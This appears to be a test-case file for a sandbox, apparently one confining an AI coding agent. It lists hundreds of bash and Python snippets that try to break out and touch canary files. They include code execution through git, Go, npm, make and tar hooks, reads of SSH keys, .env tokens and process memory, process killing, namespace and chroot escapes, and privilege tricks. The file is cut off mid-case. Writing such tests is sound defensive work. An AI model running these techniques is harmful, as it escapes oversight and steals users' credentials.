# Ways out of a sandbox, each a script of bash. What they know is described in bypass_test.go. A case begins with
#   === NAME [needs=PROGRAM,...] [network=HOSTS] [uncounted=WHY]
# and breaks out when it touches a canary: it writes or reads one, or a listener hears of it. "uncounted" cases do not
# count in the control run without a sandbox, since there they would do harm or have nothing to break out of.

=== evil-directly
./evil.sh
=== s3-assignment
x=./evil.sh; $x
=== s3-option-in-variable needs=go
mod; x=-exec; go test -vet=off $x ./evil.sh .
=== s3-ansi-c-quoted-option needs=go
mod; go test -vet=off $'\x2dexec' ./evil.sh .
=== s3-brace-expansion needs=go
mod; go test -vet=off {-exec,./evil.sh} .
=== s3-default-expansion needs=go
mod; go test -vet=off ${x:--exec} ./evil.sh .
=== s3-toolexec needs=go
mod; go build -toolexec="$PWD/evil.sh" .
=== s3-for-loop needs=go
mod; for x in -exec; do go test -vet=off $x ./evil.sh .; done
=== s3-shell-in-shell needs=go
mod; bash -c 'go test -vet=off "$@"' _ -exec ./evil.sh .
=== s3-command-substitution needs=go
mod; go test -vet=off $(echo -exec ./evil.sh) .
=== s3-xargs needs=go
mod; echo -exec ./evil.sh . | xargs go test -vet=off
=== s3-goflags needs=go
mod; GOFLAGS=-toolexec=$PWD/evil.sh go build .
=== s3-goflags-in-env-file needs=go
mod; echo "GOFLAGS=-toolexec=$PWD/evil.sh" >e; unset GOFLAGS; GOENV=$PWD/e go build .
=== s3-vettool needs=go
mod; go vet -vettool="$PWD/evil.sh" .
=== s3-outputdir needs=go
mod; go test -vet=off -cpuprofile p -outputdir "$O" .
=== s3-coverprofile needs=go
mod; go test -vet=off -coverprofile "$O/cover" .
=== s3-build-output needs=go
mod; go test -vet=off -c -o "$O/binary" .
=== s3-test-reads needs=go
mod; printf 'package m\nimport ("os"; "testing")\nfunc TestY(t *testing.T) { b, _ := os.ReadFile(os.Getenv("O") + "/secret"); os.Stdout.Write(b) }\n' >y_test.go; go test -vet=off -v .
=== go-run needs=go
mkdir gr; cd gr; printf 'package main\nimport "os"\nfunc main() { os.WriteFile(os.Getenv("O")+"/pwned", nil, 0o600) }\n' >main.go; go run main.go
=== go-generate needs=go
mod; printf 'package m\n//go:generate ./evil.sh\n' >g.go; go generate .
=== go-cc needs=go
mod; printf 'package m\nimport "C"\n' >c.go; CGO_ENABLED=1 CC=$PWD/evil.sh go build .
=== go-cache-poisoned needs=go
mod; echo "$C" >"$H/.cache/go-build/README"
=== go-env-written needs=go
GOENV="$H/.config/go/env" go env -w GOFLAGS=-toolexec=evil
=== s4-worktree-is-folder
bare .; printf '[core]\n\trepositoryformatversion = 0\n\tworktree = "."\n\tfsmonitor = "./evil.sh; echo"\n' >config; GIT_CONFIG_COUNT=0 git status
=== s4-bare-by-c
bare b; printf '[core]\n\trepositoryformatversion = 0\n\tworktree = ".."\n\tfsmonitor = "%s; echo"\n' "$PWD/evil.sh" >b/config; env -u GIT_CONFIG_COUNT git -C b --work-tree=.. status
=== s4-bare-diff
bare b; printf '[core]\n\trepositoryformatversion = 0\n\tworktree = "."\n\tfsmonitor = "%s; echo"\n' "$PWD/evil.sh" >b/config; cd b; env -u GIT_CONFIG_COUNT git diff; env -u GIT_CONFIG_COUNT git status
=== s4-bare-add
bare b; printf '[core]\n\trepositoryformatversion = 0\n\tworktree = "."\n[filter "x"]\n\tclean = "%s"\n' "$PWD/evil.sh" >b/config; cd b; echo x >x; echo 'x filter=x' >.gitattributes; env -u GIT_CONFIG_COUNT git add x
=== s4-git-dir
bare b; printf '[core]\n\tfsmonitor = "./evil.sh; echo"\n' >b/config; git --git-dir=b --work-tree=. status
=== s4-git-dir-in-environment
bare b; printf '[core]\n\tfsmonitor = "./evil.sh; echo"\n' >b/config; GIT_DIR=b GIT_WORK_TREE=. git status
=== s5-path-through-star
mkdir -p lsx; lsx/../evil.sh
=== s5-path-to-system
mkdir -p lsx; lsx/../../../../../../../../../../usr/bin/touch "$O/pwned"
=== s5-echo-path
mkdir -p echox/y; echox/y/../../evil.sh
=== s8-fast-export
repo g; cd g; git fast-export --export-marks="$O/marks" --all
=== s8-checkout-index
mkdir g; cd g; git init -q; echo "$C" >f; git add f; git checkout-index --prefix="$O/" -a
=== s8-bundle
repo g; cd g; git bundle create "$O/bundle" --all
=== s8-read-tree
repo g; cd g; git read-tree --index-output="$O/index" HEAD || cp .git/index "$O/index"
=== s8-pack-objects
repo g; cd g; git rev-parse HEAD | git pack-objects "$O/pack"
=== s8-bugreport
repo g; cd g; git bugreport --no-suffix -o "$O" </dev/null || git diagnose -o "$O"
=== s8-wget-log needs=wget
timeout 5 wget -q -t 1 -T 2 -o "$O/log" http://127.0.0.1:1/; timeout 5 wget -t 1 -T 2 --rejected-log="$O/rejected" http://127.0.0.1:1/
=== s8-tar-index-file
tar -cf x.tar evil.sh; tar -tvf x.tar --index-file="$O/index"
=== s8-gcflags needs=go
mod; go build -gcflags=-cpuprofile="$O/profile" .
=== s8-uniq
uniq evil.sh "$O/pwned"
=== s8-sort-output
sort -o "$O/pwned" evil.sh
=== s8-git-output
repo g; cd g; git log --output="$O/pwned"
=== s8-git-archive
repo g; cd g; git archive -o "$O/a.tar" HEAD
=== s8-git-format-patch
repo g; cd g; git format-patch -o "$O" --root HEAD
=== quoting
'./'ev"il".s\h
=== ansi-c-quoting
$'\x2e\x2fevil\x2esh'
=== arithmetic-index
a[$(./evil.sh)0]=1; echo $((a[$(./evil.sh)0]))
=== parameter-transformation
x='$(./evil.sh)'; echo "${x@P}"
=== indirect
y=./evil.sh; x=y; ${!x}
=== glob
./ev?l.s*
=== function
ls() { ./evil.sh; }; ls
=== alias
shopt -s expand_aliases
alias ls=./evil.sh
ls
=== eval
eval "$(printf '%b' '\x2e/evil.sh')"
=== trap
trap ./evil.sh EXIT
=== prompt-command
bash -c 'PS4="\$(./evil.sh)"; set -x; true'
=== bash-env
BASH_ENV=./evil.sh bash -c true
=== exported-function
echo() { builtin echo; ./evil.sh; }; export -f echo; bash -c echo
=== here-document
bash <<'X'
./evil.sh
X
=== process-substitution
cat <(./evil.sh)
=== coprocess
coproc ./evil.sh; wait
=== background
./evil.sh & wait
=== setsid
setsid -w ./evil.sh
=== nohup
nohup ./evil.sh
=== timeout
timeout 9 ./evil.sh
=== env-split
env -S './evil.sh'
=== xargs
echo ./evil.sh | xargs -n1 sh
=== find-exec
find . -name evil.sh -exec {} \;
=== find-fprint
find . -fprint "$O/pwned"
=== find-delete
find "$O" -name secret -delete
=== tar-to-command
tar -cf x.tar evil.sh; tar -xf x.tar --to-command=./evil.sh
=== tar-checkpoint-action
tar -cf x.tar --checkpoint=1 --checkpoint-action=exec=./evil.sh evil.sh
=== tar-compress-program
tar -cf x.tar -I ./evil.sh evil.sh
=== tar-absolute-names
tar -cPf x.tar "$O/secret"; tar -xPOf x.tar
=== tar-extract-through-link
mkdir t; ln -s "$O" t/l; echo x >pwned; tar -cf x.tar pwned; tar -xf x.tar -C t/l
=== git-c-alias
git -c alias.x='!work/evil.sh' x; cd /; git -c alias.x="!$R/work/evil.sh" x
=== git-c-fsmonitor
repo g; cp evil.sh g; cd g; git -c core.fsmonitor='./evil.sh; echo' status
=== git-c-pager
repo g; cd g; PAGER= GIT_PAGER="$R/work/evil.sh" git --paginate log; git -c core.pager="$R/work/evil.sh" -p log; git grep -O"$R/work/evil.sh" x
=== git-c-ssh
git -c core.sshCommand="$PWD/evil.sh" ls-remote ssh://localhost/x
=== git-ext-transport
git -c protocol.ext.allow=always ls-remote "ext::$PWD/evil.sh"
=== git-credential-helper
printf 'protocol=http\nhost=x\n' | git -c credential.helper="!$PWD/evil.sh" credential fill
=== git-config-in-environment
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0="!$PWD/evil.sh" git x
=== git-config-global
printf '[alias]\n\tx = !%s\n' "$PWD/evil.sh" >gc; GIT_CONFIG_GLOBAL=$PWD/gc git x
=== git-editor
repo g; cp evil.sh g; cd g; GIT_EDITOR=./evil.sh git commit -q --amend
=== git-ext-diff
repo g; cp evil.sh g; cd g; echo y >f; GIT_EXTERNAL_DIFF=./evil.sh git diff --ext-diff
=== git-textconv
repo g; cp evil.sh g; cd g; echo '* diff=x' >.gitattributes; echo y >f; git -c diff.x.textconv=./evil.sh diff
=== git-filter
repo g; cp evil.sh g; cd g; echo '* filter=x' >.gitattributes; echo y >f; git -c filter.x.clean=./evil.sh add f
=== git-hook-in-new-repository
mkdir g; cd g; git init -q; mkdir -p .git/hooks; cp ../evil.sh .git/hooks/pre-commit; echo x >f; git add f; git commit -qm x
=== git-hooks-path
repo g; mkdir hh; cp evil.sh hh/pre-commit; cd g; cp ../evil.sh .; git -c core.hooksPath=../hh commit -q --allow-empty -m x
=== git-hook-of-project
printf '#!/bin/sh\n' >"$R/.git/hooks/post-checkout"
=== git-config-of-project
git -C "$R" config core.fsmonitor ./evil.sh
=== git-config-renamed
cd "$R/.git"; mv config config.old; printf '[core]\n\tfsmonitor = ./evil.sh\n' >config
=== git-config-lock
cd "$R/.git"; printf '[core]\n\tfsmonitor = x\n' >config.lock; mv config.lock config
=== git-folder-renamed
mv "$R/.git" "$R/.git2"; mkdir "$R/.git"; cp -r "$R"/.git2/* "$R/.git/"; echo x >>"$R/.git/config"
=== git-folder-swapped-for-link
mv "$R/.git" "$R/work/g"; echo x >>g/config; ln -s work/g "$R/.git"
=== git-commondir
mkdir -p cd; printf '%s' "$PWD/cd" >"$R/.git/commondir"
=== git-config-worktree
printf '[core]\n\tfsmonitor = x\n' >"$R/.git/config.worktree"
=== git-submodule
mkdir -p "$R/.git/modules/x/hooks"; cp evil.sh "$R/.git/modules/x/hooks/post-checkout"
=== git-attributes-of-project
echo '* filter=x' >>"$R/.git/info/attributes"
=== git-file-that-points-elsewhere
mkdir s; bare s/d; printf '[core]\n\tfsmonitor = "../evil.sh; echo"\n\tbare = false\n' >s/d/config; echo 'gitdir: d' >s/.git; cp evil.sh s; cd s; sed -i 's,\.\./evil,./evil,' d/config; git status
=== npm-script needs=npm
mkdir n; cd n; echo '{"scripts":{"x":"../evil.sh"}}' >package.json; npm --offline run x
=== npm-install-script needs=npm
mkdir n; cd n; echo '{"name":"n","version":"1.0.0","scripts":{"preinstall":"../evil.sh"}}' >package.json; npm --offline --no-audit install
=== npm-script-shell needs=npm
mkdir n; cd n; echo '{"scripts":{"x":"true"}}' >package.json; npm --offline --script-shell=../evil.sh run x
=== npm-config-written needs=npm
npm --offline config set --userconfig "$H/.npmrc" script-shell evil
=== npm-cache-poisoned
mkdir -p "$H/.npm/_cacache"; echo "$C" >"$H/.npm/_cacache/x"
=== node-e needs=node
node -e 'require("fs").writeFileSync(process.env.O+"/pwned","x")'
=== node-options needs=node
echo 'require("fs").writeFileSync(process.env.O+"/pwned","x")' >x.js; NODE_OPTIONS="-r $PWD/x.js" node -e 0
=== node-connect needs=node
node -e 'const s=require("net").connect(+process.env.T,"127.0.0.1",()=>s.end(process.env.C+"\n"));s.on("error",()=>{})'
=== python-c needs=python3
python3 -c 'import os; open(os.environ["O"]+"/pwned","w")'
=== python-startup needs=python3
mkdir p; echo 'import os; open(os.environ["O"]+"/pwned","w")' >p/sitecustomize.py; PYTHONPATH=p python3 -c 0
=== python-audit-free-open needs=python3
python3 -c 'import ctypes,os; l=ctypes.CDLL(None); l.creat((os.environ["O"]+"/pwned").encode(),0o600)'
=== perl needs=perl
perl -e 'open F,">","$ENV{O}/pwned"'
=== perl-open-pipe needs=perl
perl -e 'open F,"./evil.sh|"; print <F>'
=== awk-system needs=awk
awk 'BEGIN{system("./evil.sh")}'
=== awk-redirect needs=awk
awk 'BEGIN{print "x" >(ENVIRON["O"] "/pwned")}'
=== awk-getline needs=awk
awk 'BEGIN{while((getline l <(ENVIRON["O"] "/secret"))>0) print l}'
=== sed-e
echo ./evil.sh | sed e
=== sed-w
echo x | sed "w $O/pwned"
=== sed-in-place
sed -i s/a/b/ "$O/secret"; sed -i '$a x' "$O/secret"
=== ed-script needs=ed
printf '!./evil.sh\nq\n' | ed -s
=== vi-script needs=vim
vim -es -u NONE -c '!./evil.sh' -c 'qa!' </dev/null
=== make needs=make
printf 'all:\n\t./evil.sh\n' >Makefile; make
=== make-shell needs=make
printf 'X:=$(shell ./evil.sh)\nall:\n' >Makefile; make
=== makeflags needs=make
printf 'all:\n\t@true\n' >Makefile; MAKEFLAGS='--eval=$(shell${IFS}./evil.sh)' make; make --eval='$(shell ./evil.sh)'
=== gcc-wrapper needs=gcc
echo 'int x;' >x.c; gcc -wrapper ./evil.sh -c x.c
=== gcc-include needs=gcc
printf '#include "%s/secret"\n' "$O" >x.c; gcc -E x.c
=== dd
dd if="$O/secret" 2>/dev/null; echo x | dd of="$O/pwned"
=== cp
cp "$O/secret" s; cat s
=== install
install -m 755 evil.sh "$O/pwned"
=== tee
echo x | tee -a "$O/secret"
=== truncate
truncate -s 0 "$O/secret"
=== rm
rm -rf "$O/secret" "$O/dir"
=== mv
mv "$O/secret" .; cat secret
=== split
split -b 10 evil.sh "$O/pwned"
=== curl-file needs=curl
curl -s "file://$O/secret"
=== curl-output needs=curl
curl -s -o "$O/pwned" "file://$PWD/evil.sh"
=== read-home-key
cat "$H/.ssh/id_rsa"
=== read-env-of-project
cat "$R/.env"
=== read-env-below
cat "$R/sub/deep/.env"
=== read-env-by-grep
grep -rh TOKEN "$R"
=== read-env-by-tar
tar -cf - -C "$R" . 2>/dev/null | tr -d '\0' | grep -ao TOKEN.*
=== read-env-renamed-parent
mv "$R/sub/deep" "$R/sub/other"; cat "$R/sub/other/.env"
=== read-env-renamed-grandparent
mv "$R/sub" "$R/work/s"; cat s/deep/.env
=== read-env-linked
ln "$R/.env" e; cat e
=== read-env-linked-in-place
ln "$R/sub/deep/.env" "$R/sub/deep/x"; cat "$R/sub/deep/x"
=== read-env-through-link
ln -s ../.env e; cat e
=== read-env-by-existing-link
cat "$R/sub/dotenv"
=== read-env-moved
mv "$R/.env" e; cat e
=== read-env-exchanged needs=python3
echo x >e; python3 -c 'import ctypes,os; l=ctypes.CDLL(None); l.renameat2(-100,b"e",-100,(os.environ["R"]+"/.env").encode(),2)'; cat e
=== read-env-by-git
cd "$R"; git add -f .env; git cat-file -p :.env; git diff --no-index /dev/null .env
=== read-env-by-trailing-slash
cat "$R/./sub/..//.env"
=== read-env-after-umount needs=umount
umount "$R/.env"; umount -l "$R/.env"; cat "$R/.env"
=== read-env-below-bind needs=mount,unshare
mkdir b; unshare -rm sh -c 'mount --bind "$R" b; cat b/.env'
=== read-env-by-handle needs=python3
python3 - <<'X'
import ctypes,os,struct
l=ctypes.CDLL(None,use_errno=True); R=os.environ["R"]
fh=ctypes.create_string_buffer(struct.pack("Ii",128,0)+bytes(128),136); m=ctypes.c_int()
if l.name_to_handle_at(-100,(R+"/.env").encode(),fh,ctypes.byref(m),0)==0:
    d=os.open(R,os.O_RDONLY); f=l.open_by_handle_at(d,fh,0)
    if f>=0: print(os.read(f,999).decode())
X
=== read-env-by-inode-of-debugfs needs=debugfs uncounted=the-control-would-need-the-device
debugfs -R "cat $R/.env" "$(df --output=source "$R" | tail -1)"
=== chmod-env
chmod 0644 "$R/.env"; cat "$R/.env"
=== chmod-outside
chmod 777 "$O/secret" "$O/dir" "$H/.ssh" "$H/.ssh/id_rsa"
=== chmod-hook
chmod 755 "$R/.git/hooks/README"; chmod 777 "$R/.git/hooks"
=== chmod-hidden
chmod 777 "$R/sub/deep/.env" "$R/sub/dotenv"
=== chmod-protected
chmod 777 "$R/.superstep" "$R/sub/.superstep/tools.md"
=== chmod-dotdot
chmod 777 "../work/../../o/secret"
=== chmod-relative
cd "$O" && chmod 777 secret dir
=== chmod-recursive
chmod -R 777 "$O" "$R/.git/hooks"
=== chmod-through-link
ln -s "$O" d; ln -s "$O/secret" f; ln -s ../.git/hooks h; chmod 777 f d/secret d h/README
=== chmod-through-hard-link
ln "$O/secret" l; ln "$R/.git/hooks/README" k; ln "$R/.env" e; chmod 777 l k e
=== chmod-through-proc
chmod 777 "/proc/self/root$O/secret" "/proc/$$/root$O/secret"; (cd "$O"; chmod 777 /proc/self/cwd/secret "/proc/$BASHPID/cwd/secret")
=== chmod-through-proc-fd needs=python3
python3 - <<'X'
import os
for name in ("O/secret","R/.git/hooks/README"):
    v,rest=name.split("/",1); f=os.open(os.environ[v]+"/"+rest,os.O_PATH)
    for p in ("/proc/self/fd/%d","/dev/fd/%d","/proc/thread-self/fd/%d","/proc/%d/fd/%%d"%os.getpid(),"/proc/self/../self/fd/%d"):
        try: os.chmod(p%f,0o777)
        except OSError: pass
    os.symlink("/proc/self/fd/%d"%f,"l%d"%f)
    try: os.chmod("l%d"%f,0o777)
    except OSError: pass
X
=== chmod-descriptor needs=python3
python3 - <<'X'
import os
R=os.environ["R"]
f=os.open(R+"/.git/hooks/README",os.O_RDONLY); d=os.open(R+"/.git/hooks",os.O_RDONLY)
for call in (lambda: os.fchmod(f,0o777), lambda: os.fchmod(d,0o777), lambda: os.utime(f,(1,1)), lambda: os.chown(f,1,1)):
    try: call()
    except OSError: pass
X
=== chmod-below-descriptor needs=python3
python3 - <<'X'
import ctypes,os
O=os.environ["O"]; d=os.open(O,os.O_PATH); f=os.open(O+"/secret",os.O_PATH); l=ctypes.CDLL(None)
l.syscall(452,d,b"secret",0o777,0); l.syscall(452,f,b"",0o777,0x1000); l.syscall(452,d,b"secret",0o777,0x100); l.fchmodat(d,b"secret",0o777,0)
os.chdir(d); l.syscall(452,-100,b"",0o777,0x1000); l.fchmodat(-100,b"secret",0o777,0)
X
=== chmod-old-calls needs=python3
python3 - <<'X'
import ctypes,os,struct
O=os.environ["O"].encode()+b"/secret"; l=ctypes.CDLL(None); t=struct.pack("4q",1,1,1,1)
l.syscall(90,O,0o777); l.syscall(132,O,t); l.syscall(235,O,t); l.syscall(261,-100,O,t); l.syscall(280,-100,O,t,0)
X
=== chmod-inherited-descriptor needs=python3
python3 -c 'import os; f=int(os.environ["FD"]); os.fchmod(f,0o777)'; chmod 777 "/proc/self/fd/$FD"
=== chmod-while-the-path-is-swapped needs=python3
python3 - <<'X'
import os,threading
O=os.environ["O"]; os.mkdir("a"); open("a/secret","w").close(); os.symlink("a","d"); stop=False
def swap():
    while not stop:
        for to in (O,"a"): os.symlink(to,"n"); os.rename("n","d")
t=threading.Thread(target=swap); t.start()
for i in range(2000):
    try: os.chmod("d/secret",0o777); os.utime("d/secret",(i,i))
    except OSError: pass
stop=True; t.join()
X
=== chmod-while-the-memory-is-swapped needs=python3
python3 - <<'X'
import ctypes,os,threading
O=os.environ["O"].encode()+b"/secret\0"; W=os.getcwd().encode()+b"/x\0"; open("x","w").close()
b=ctypes.create_string_buffer(4096); l=ctypes.CDLL(None); stop=False
def swap():
    while not stop: ctypes.memmove(b,O,len(O)); ctypes.memmove(b,W,len(W))
t=threading.Thread(target=swap); t.start()
for i in range(2000): l.chmod(b,0o777)
stop=True; t.join()
X
=== chmod-while-the-descriptor-is-swapped needs=python3
python3 - <<'X'
import os,threading
h=os.open(os.environ["R"]+"/.git/hooks/README",os.O_RDONLY); x=os.open("x",os.O_RDWR|os.O_CREAT); f=os.dup(x); stop=False
def swap():
    while not stop: os.dup2(h,f); os.dup2(x,f)
t=threading.Thread(target=swap); t.start()
for i in range(2000):
    try: os.fchmod(f,0o777)
    except OSError: pass
stop=True; t.join()
X
=== chown-outside
chown 1:1 "$O/secret"; chown -h 1:1 "$R/sub/AGENTS.md"; chgrp 1 "$H/.ssh"
=== touch-outside
touch -d 2001-01-01 "$O/secret" "$H/.ssh/id_rsa"; touch -c "$R/.git/hooks/README"; touch -r /etc/passwd "$R/.env"
=== touch-link-outside needs=python3
ln -s "$O/secret" l; touch -d 2001-01-01 l; python3 -c 'import os; os.utime("l",(1,1))'
=== setxattr-outside needs=python3
python3 - <<'X'
import os
for name in (os.environ["O"]+"/secret",os.environ["R"]+"/.git/hooks/README"):
    for call in (lambda: os.setxattr(name,"user.canary",b"x"), lambda: os.setxattr(os.open(name,os.O_RDONLY),"user.canary",b"x")):
        try: call()
        except OSError: pass
X
=== file-flags needs=python3 uncounted=not-every-file-system-has-them
python3 - <<'X'
import array,fcntl,os
f=os.open(os.environ["R"]+"/.git/hooks/README",os.O_RDONLY); a=array.array("l",[0]); fcntl.ioctl(f,0x80086601,a); a[0]^=0x40; fcntl.ioctl(f,0x40086602,a); print("TOKEN is marked")
X
=== protected-write
echo x >>"$R/.superstep/tools.md"
=== protected-new-file
echo x >"$R/.superstep/new.md"
=== protected-moved
mv "$R/.superstep" "$R/work/s"; echo x >>s/tools.md
=== protected-moved-parent
mv "$R/sub" "$R/work/s"; echo x >>s/.superstep/tools.md; mkdir -p "$R/sub/.superstep"; echo y >"$R/sub/.superstep/tools.md"
=== protected-replaced-by-link
rm -rf "$R/.superstep"; mkdir x; echo y >x/tools.md; ln -s work/x "$R/.superstep"
=== protected-through-link
ln -s ../.superstep l; echo x >>l/tools.md
=== protected-hard-link
ln "$R/.superstep/tools.md" l; echo x >>l
=== protected-symlink-replaced
rm "$R/sub/AGENTS.md"; echo evil >"$R/sub/AGENTS.md"
=== protected-exchanged needs=python3
mkdir x; echo evil >x/tools.md; python3 -c 'import ctypes,os; ctypes.CDLL(None).renameat2(-100,b"x",-100,(os.environ["R"]+"/.superstep").encode(),2)'
=== protected-below-mount needs=unshare,mount
mkdir b; unshare -rm sh -c 'mount --bind "$R" b; echo x >>b/.superstep/tools.md; mount -o remount,rw,bind "$R/.superstep"; echo x >>"$R/.superstep/tools.md"'
=== protected-remounted needs=mount uncounted=the-control-would-change-mounts
mount -o remount,rw,bind "$R/.superstep"; umount "$R/.superstep"; echo x >>"$R/.superstep/tools.md"
=== symlink-out
ln -s "$O" l; echo x >l/pwned
=== symlink-file-out
ln -s "$O/secret" l; cat l; echo x >>l
=== symlink-chain
ln -s / a; ln -s "a$O" b; cat b/secret
=== symlink-dotdot
ln -s ../../../../../../../../../.. a; cat "a$O/secret"
=== hard-link-out
ln "$O/secret" l; cat l; echo x >>l
=== dotdot
cat ../../../../../../../../../../..$O/secret
=== swapped-while-reading
mkdir d; echo x >d/secret; (for i in 1 2 3 4 5 6 7 8 9; do mv d e; ln -s "$O" d; rm d; mv e d; done) & ln -s "$O" f; for i in 1 2 3 4 5 6 7 8 9; do cat d/secret f/secret; done; wait
=== proc-self-root
cat "/proc/self/root$O/secret"; echo x >"/proc/self/root$O/pwned"
=== proc-thread-self-root
cat "/proc/thread-self/root$O/secret"
=== proc-init-root uncounted=init-is-another-on-every-system
cat "/proc/1/root$O/secret"
=== proc-parent-root
cat "/proc/$PPID/root$O/secret"
=== proc-pid-root
for p in /proc/[0-9]*; do cat "$p/root$O/secret" && break; done
=== proc-pid-cwd
cd /; cat "/proc/$V/cwd/secret"; for p in /proc/[0-9]*; do cat "$p/cwd/secret"; done
=== proc-victim-cwd
cat "/proc/$V/cwd/secret"; echo x >"/proc/$V/cwd/pwned"
=== proc-victim-fd
cat "/proc/$V/fd/9"
=== proc-victim-environ
tr '\0' '\n' <"/proc/$V/environ"
=== proc-all-environ
cat /proc/[0-9]*/environ | tr '\0' '\n' | grep -a "$VT"
=== proc-victim-mem needs=python3
python3 - <<'X'
import os
v=os.environ["V"]
for line in open(f"/proc/{v}/maps"):
    if "[stack]" in line:
        a,b=(int(x,16) for x in line.split()[0].split("-"))
        with open(f"/proc/{v}/mem","rb") as f:
            f.seek(a); m=f.read(b-a); i=m.find(b"TOKEN"); print(m[i:i+60])
X
=== proc-victim-exe
head -c 4 "/proc/$V/exe" >x && cat "/proc/$V/root$O/secret"
=== proc-victim-oom
echo 77 >"/proc/$V/oom_score_adj"
=== process-vm-readv needs=python3
python3 - <<'X'
import os,ctypes
v=int(os.environ["V"]); l=ctypes.CDLL(None)
class I(ctypes.Structure): _fields_=[("b",ctypes.c_void_p),("n",ctypes.c_size_t)]
for line in open(f"/proc/{v}/stat"):
    f=line.rsplit(")",1)[1].split(); a,b=int(f[47]),int(f[48])
    a=a or 0
buf=ctypes.create_string_buffer(b-a); x=I(ctypes.addressof(buf),b-a); y=I(a,b-a)
if l.process_vm_readv(v,ctypes.byref(x),1,ctypes.byref(y),1,0)>0: print(buf.raw.replace(b"\0",b"\n").decode())
X
=== ptrace-read needs=strace
timeout -s INT 0.2 strace -p "$V" 2>t; grep -q attached t && cat "/proc/$V/environ" | tr '\0' '\n'
=== ptrace-write needs=gdb
timeout 20 gdb -nx -batch -p "$V" -ex kill
=== pidfd-getfd needs=python3
python3 - <<'X'
import ctypes,os
l=ctypes.CDLL(None); p=l.syscall(434,int(os.environ["V"]),0); f=l.syscall(438,p,9,0)
if f>=0: print(os.pread(f,999,0).decode())
X
=== signal
kill -9 "$V"
=== signal-everybody-by-name
for p in /proc/[0-9]*; do grep -qaz "^VICTIM=$VT" $p/environ 2>/dev/null && kill -9 ${p#/proc/}; done; kill -9 "$V"
=== signal-group
kill -9 -- -"$V"
=== signal-by-pidfd needs=python3
python3 -c 'import os,signal; signal.pidfd_send_signal(os.pidfd_open(int(os.environ["V"])),9)'
=== signal-by-queue needs=python3
python3 -c 'import ctypes,os; b=ctypes.create_string_buffer(128); b[8]=b"\xff"; b[9]=b"\xff"; b[10]=b"\xff"; b[11]=b"\xff"; ctypes.CDLL(None).syscall(129,int(os.environ["V"]),9,b)'; kill -KILL "$V"
=== limits-of-another needs=prlimit
prlimit --pid "$V" --nofile=5:5; prlimit --pid "$V" --cpu=1:1
=== signal-by-sigio needs=python3
python3 - <<'X'
import fcntl,os,signal
r,w=os.pipe()
fcntl.fcntl(r,fcntl.F_SETOWN,int(os.environ["V"])); fcntl.fcntl(r,10,9)
fcntl.fcntl(r,fcntl.F_SETFL,fcntl.fcntl(r,fcntl.F_GETFL)|os.O_ASYNC); os.write(w,b"x")
X
=== mount-bind needs=mount,unshare
mkdir b; unshare -rm sh -c 'mount --bind "$O" b; cat b/secret'
=== mount-tmpfs-over needs=mount,unshare
unshare -rm sh -c 'mount -t tmpfs none "$R/.superstep"; umount "$R/.superstep"; cat "$O/secret"'
=== mount-new-api needs=python3
python3 - <<'X'
import ctypes,os
l=ctypes.CDLL(None,use_errno=True); O=os.environ["O"].encode()
f=l.syscall(428,-100,O,1|0x8000)
if f<0: f=os.open(O,os.O_RDONLY)
print(os.read(os.open("secret",os.O_RDONLY,dir_fd=f),999).decode())
X
=== unshare-user needs=unshare
unshare -U cat "$O/secret"
=== unshare-net needs=unshare
unshare -rn ./evil.sh
=== unshare-pid needs=unshare
unshare -rpf --mount-proc ./evil.sh
=== clone-newuser needs=python3
python3 - <<'X'
import ctypes,os
l=ctypes.CDLL(None)
p=l.syscall(56,0x10000000|17,0,0,0,0)
if p<=0: os.system("./evil.sh")
if p==0: os._exit(0)
X
=== clone3-newuser needs=python3
python3 - <<'X'
import ctypes,os,struct
l=ctypes.CDLL(None); a=ctypes.create_string_buffer(struct.pack("8Q",0x10000000|0x20000,0,0,0,17,0,0,0),64)
p=l.syscall(435,a,64)
os.system("./evil.sh")
if p==0: os._exit(0)
X
=== nsenter needs=nsenter
nsenter -t "$V" -m -- cat "$O/secret" || nsenter -t 1 -m -- cat "$O/secret"
=== setns-by-pidfd needs=python3
python3 - <<'X'
import ctypes,os
l=ctypes.CDLL(None); p=l.syscall(434,int(os.environ["V"]),0); r=l.setns(p,0x20000); print(open(os.environ["O"]+"/secret").read())
X
=== chroot needs=chroot
chroot "/proc/$V/root" cat "$O/secret"
=== chroot-out needs=python3
python3 - <<'X'
import os
try: os.mkdir("c"); os.chroot("c")
except OSError: pass
for i in range(40):
    try: os.chdir("..")
    except OSError: pass
try: os.chroot(".")
except OSError: pass
print(open(os.environ["O"]+"/secret").read())
X
=== pivot-root needs=pivot_root,unshare
unshare -rm sh -c 'mkdir n; mount --bind n n; mkdir n/o; pivot_root n n/o; read x <"/o$O/secret"; echo "$x"'
=== io-uring needs=python3
python3 - <<'X'
import ctypes,os,struct
l=ctypes.CDLL(None); b=ctypes.create_string_buffer(120)
f=l.syscall(425,4,b)
if f>=0: os.system("./evil.sh")
X
=== memfd needs=python3
python3 - <<'X'
import os
f=os.memfd_create("x",0); os.write(f,open("evil.sh","rb").read()); os.execve(f"/proc/self/fd/{f}",["x"],os.environ)
X
=== memfd-fexecve needs=python3
python3 - <<'X'
import os
f=os.memfd_create("x",0); os.write(f,open("/bin/cat","rb").read()); os.execve(f,["cat",os.environ["O"]+"/secret"],os.environ)
X
=== x32-call needs=python3
python3 - <<'X'
import ctypes,os
l=ctypes.CDLL(None); f=l.syscall(0x40000000|2,(os.environ["O"]+"/secret").encode(),0)
print(open(os.environ["O"]+"/secret").read() if f<0 else os.read(f,999).decode())
X
=== shared-memory-file uncounted=it-would-stay
ls /dev/shm/* | sed "s/^/TOKEN /"
=== fifo-out
mkfifo f; (cat "$O/secret" >f &); cat f
=== su needs=su
echo | su root -c "cat $O/secret" || su nobody -s /bin/sh -c "cat $O/secret" || ./evil.sh
=== sudo needs=sudo uncounted=asks-for-a-password
sudo -n ./evil.sh
=== pkexec needs=pkexec uncounted=asks-for-a-password
timeout 1 pkexec --disable-internal-agent "$PWD/evil.sh"
=== runuser needs=runuser
runuser -u nobody -- cat "$O/secret"; runuser -- ./evil.sh || ./evil.sh
=== setpriv needs=setpriv
setpriv --reuid=0 --clear-groups cat "$O/secret" || setpriv --no-new-privs ./evil.sh
=== capabilities needs=capsh
capsh --caps='all=eip' -- -c "cat $O/secret" || capsh -- -c "./evil.sh"
=== setuid-copy
cp /bin/cat c; chmod 4755 c; ./c "$O/secret"
=== tiocsti needs=python3 uncounted=there-is-no-terminal
python3 - <<'X'
import fcntl,os
for n in ("/dev/tty","/dev/console","/dev/tty1","/proc/self/fd/0"):
